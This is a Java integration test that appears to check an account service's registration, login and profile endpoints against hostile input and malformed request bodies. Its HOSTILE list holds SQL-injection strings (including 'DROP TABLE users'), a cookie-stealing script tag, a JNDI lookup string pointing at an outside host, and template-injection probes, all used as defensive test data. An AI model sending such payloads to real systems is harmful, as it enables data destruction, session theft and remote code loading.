package ch.moveacces.system;

import static org.assertj.core.api.Assertions.assertThat;

import ch.moveacces.legacy.ServiceAccount;
import ch.moveacces.system.ApiClient.Reply;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.sql.Statement;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.ThreadLocalRandom;
import org.assertj.core.api.SoftAssertions;
import org.junit.jupiter.api.Test;

/**
 * Input written to hurt: SQL, markup, lookup expressions and encoded NULs in every field of
 * registration, login and profile edits, each either stored exactly as sent or refused with a 4xx
 * problem, never run; then the tables are still there and hold the strings as sent. And bodies the
 * API cannot take: too large, not JSON, not JSON at all by their type.
 *
 * <p>The strings are read back through the API and from {@code users} with profile-service's
 * account; a refusal names no SQL or class. A body over 16 KiB is 413, broken JSON 400, another
 * media type 415, all problem+json.
 */
@WithRunningSystem
class HostileInputSystemIT {

  private static final List<String> HOSTILE =
      List.of(
          "'); DROP TABLE users; --",
          "Robert\"); DELETE FROM acces_app WHERE (\"1\"=\"1",
          "<script>alert(document.cookie)</script>",
          "${jndi:ldap://x.example.org/a}",
          "%00%27 OR 1=1 --",
          "a\u0000b",
          "{{7*7}} #{7*7} ${7*7}");

  private static final List<String> TEXT_FIELDS = List.of("nom", "prenom", "rue", "localite");
  private static final String PASSWORD = "Entree-hostile mais-correcte";

  private final HttpClient http =
      HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(2)).build();

  @Test
  void hostileStringsInEveryFieldAreStoredVerbatimOrRefusedAndNeverRun(RunningSystem system)
      throws Exception {
    SoftAssertions softly = new SoftAssertions();
    List<Long> storedMembers = new ArrayList<>();
    Map<Long, Map<String, String>> expectedRows = new HashMap<>();

    for (int i = 0; i < HOSTILE.size(); i++) {
      String hostile = HOSTILE.get(i);
      String email = "hostile-" + i + "-" + UUID.randomUUID() + "@example.ch";
      Map<String, Object> registration = new HashMap<>();
      registration.put("email", email);
      registration.put("password", hostile + " " + PASSWORD);
      TEXT_FIELDS.forEach(field -> registration.put(field, hostile));
      ApiClient anonymous = ApiClient.from(system);
      Reply registered = anonymous.post("/auth/register", registration);
      if (!storedOrRefused(softly, "register with " + hostile, registered, 201)) {
        continue;
      }
      Reply login =
          anonymous.post(
              "/auth/login", Map.of("email", email, "password", hostile + " " + PASSWORD));
      softly.assertThat(login.status()).as("log in with the hostile password").isEqualTo(200);
      if (login.status() != 200) {
        continue;
      }
      ApiClient member = anonymous.withToken(login.text("access_token"));
      Reply profile = member.get("/users/me");
      long userId = profile.body().path("user_id").asLong();
      storedMembers.add(userId);
      Map<String, String> expected = new HashMap<>();
      TEXT_FIELDS.forEach(
          field -> {
            softly.assertThat(profile.text(field)).as(field + " read back").isEqualTo(hostile);
            expected.put(field, hostile);
          });

      // The same member now writes the next hostile string over each field, one at a time.
      String next = HOSTILE.get((i + 1) % HOSTILE.size());
      for (String field : TEXT_FIELDS) {
        Reply patched = member.mergePatch("/users/me", Map.of(field, next), null);
        if (storedOrRefused(softly, "PATCH " + field + " = " + next, patched, 200)) {
          softly.assertThat(patched.text(field)).as(field + " after PATCH").isEqualTo(next);
          expected.put(field, next);
        }
      }
      for (String strict : List.of("npa", "tel", "date_naissance")) {
        Reply refused = member.mergePatch("/users/me", Map.of(strict, hostile), null);
        problem(softly, "PATCH " + strict + " = " + hostile, refused);
      }
      Map<String, Object> immutable = new HashMap<>();
      immutable.put("email", hostile);
      immutable.put("user_id", hostile);
      problem(softly, "PATCH email and user_id", member.mergePatch("/users/me", immutable, null));
      Reply reread = member.get("/users/me");
      expected.forEach(
          (field, value) ->
              softly.assertThat(reread.text(field)).as(field + " read back").isEqualTo(value));
      softly.assertThat(reread.text("email")).isEqualTo(email);
      expectedRows.put(userId, expected);
    }

    for (String hostile : HOSTILE) {
      Reply registered =
          ApiClient.from(system)
              .post(
                  "/auth/register",
                  Map.of(
                      "email",
                      hostile + "@example.ch",
                      "password",
                      PASSWORD,
                      "nom",
                      "Mail",
                      "prenom",
                      "Hostile"));
      if (storedOrRefused(softly, "register with email " + hostile, registered, 201)) {
        softly
            .assertThat(
                ApiClient.from(system)
                    .post(
                        "/auth/login",
                        Map.of("email", hostile + "@example.ch", "password", PASSWORD))
                    .status())
            .as("log in as " + hostile)
            .isEqualTo(200);
      }
      Reply login =
          ApiClient.from(system).post("/auth/login", Map.of("email", hostile, "password", hostile));
      softly.assertThat(login.status()).as("login as " + hostile).isIn(400, 401, 422);
      problem(softly, "login as " + hostile, login);
    }
    softly.assertAll();

    assertThat(storedMembers).as("members whose hostile profile was stored").isNotEmpty();
    try (Connection profiles = system.openDatabase(ServiceAccount.PROFILE);
        Connection auth = system.openDatabase(ServiceAccount.AUTH)) {
      assertThat(count(profiles, "SELECT COUNT(*) FROM users")).isPositive();
      assertThat(count(auth, "SELECT COUNT(*) FROM acces_app")).isPositive();
      for (var row : expectedRows.entrySet()) {
        try (PreparedStatement query =
            profiles.prepareStatement(
                "SELECT nom, prenom, rue, localite FROM users WHERE user_id = ?")) {
          query.setLong(1, row.getKey());
          try (ResultSet stored = query.executeQuery()) {
            assertThat(stored.next()).isTrue();
            for (String field : TEXT_FIELDS) {
              assertThat(stored.getString(field))
                  .as("users." + field + " of " + row.getKey())
                  .isEqualTo(row.getValue().get(field));
            }
          }
        }
      }
    }
  }

  @Test
  void aBodyOver16KibIs413(RunningSystem system) throws Exception {
    String big = "{\"email\":\"big@example.ch\",\"password\":\"" + "x".repeat(17 * 1024) + "\"}";

    assertProblem(send(system, "POST", "/auth/register", "application/json", big, null), 413);
    assertProblem(
        send(system, "PATCH", "/users/me", "application/merge-patch+json", big, token(system)),
        413);
  }

  @Test
  void aBodyThatIsNotJsonIs400(RunningSystem system) throws Exception {
    assertProblem(
        send(system, "POST", "/auth/login", "application/json", "{\"email\": \"a@", null), 400);
    assertProblem(
        send(system, "POST", "/auth/register", "application/json", "not json at all", null), 400);
    assertProblem(
        send(
            system,
            "PATCH",
            "/users/me",
            "application/merge-patch+json",
            "{nom: 'Muster'",
            token(system)),
        400);
  }

  @Test
  void aBodyOfAnotherMediaTypeIs415(RunningSystem system) throws Exception {
    assertProblem(
        send(system, "POST", "/auth/login", "text/plain", "email=a@example.ch&password=x", null),
        415);
    assertProblem(
        send(
            system,
            "POST",
            "/auth/register",
            "application/xml",
            "<user><email>a@example.ch</email></user>",
            null),
        415);
    assertProblem(
        send(system, "PATCH", "/users/me", "text/plain", "nom=Muster", token(system)), 415);
  }

  /**
   * Whether the reply stored it ({@code stored}); otherwise it must be a 4xx problem that names no
   * SQL, class or stack frame.
   */
  private static boolean storedOrRefused(
      SoftAssertions softly, String what, Reply reply, int stored) {
    if (reply.status() == stored) {
      return true;
    }
    problem(softly, what, reply);
    return false;
  }

  private static void problem(SoftAssertions softly, String what, Reply reply) {
    softly.assertThat(reply.status()).as(what).isBetween(400, 499);
    softly.assertThat(reply.header("Content-Type")).as(what).startsWith("application/problem+json");
    softly.assertThat(reply.body().path("type").asString()).as(what).isNotBlank();
    softly
        .assertThat(reply.body().toString())
        .as(what)
        .doesNotContainIgnoringCase("sql")
        .doesNotContain("Exception")
        .doesNotContain("at ch.moveacces");
  }

  private static void assertProblem(HttpResponse<String> response, int status) {
    assertThat(response.statusCode()).as(response.body()).isEqualTo(status);
    assertThat(response.headers().firstValue("Content-Type"))
        .hasValueSatisfying(type -> assertThat(type).startsWith("application/problem+json"));
    assertThat(response.body()).contains("\"status\":" + status).doesNotContain("Exception");
  }

  /** A fresh member's access token. */
  private static String token(RunningSystem system) {
    ApiClient anonymous = ApiClient.from(system);
    String email = "body-" + UUID.randomUUID() + "@example.ch";
    assertThat(
            anonymous
                .post(
                    "/auth/register",
                    Map.of("email", email, "password", PASSWORD, "nom", "Corps", "prenom", "Ida"))
                .status())
        .isEqualTo(201);
    Reply login = anonymous.post("/auth/login", Map.of("email", email, "password", PASSWORD));
    assertThat(login.status()).isEqualTo(200);
    return login.text("access_token");
  }

  private HttpResponse<String> send(
      RunningSystem system, String method, String path, String type, String body, String token)
      throws Exception {
    ThreadLocalRandom random = ThreadLocalRandom.current();
    HttpRequest.Builder request =
        HttpRequest.newBuilder(URI.create(system.gateway() + path))
            .timeout(Duration.ofSeconds(15))
            .header("Content-Type", type)
            .header("X-Forwarded-For", "10." + random.nextInt(256) + ".2." + random.nextInt(1, 255))
            .method(method, HttpRequest.BodyPublishers.ofString(body));
    if (token != null) {
      request.header("Authorization", "Bearer " + token);
    }
    return http.send(request.build(), HttpResponse.BodyHandlers.ofString());
  }

  private static long count(Connection connection, String sql) throws Exception {
    try (Statement statement = connection.createStatement();
        ResultSet result = statement.executeQuery(sql)) {
      result.next();
      return result.getLong(1);
    }
  }
}
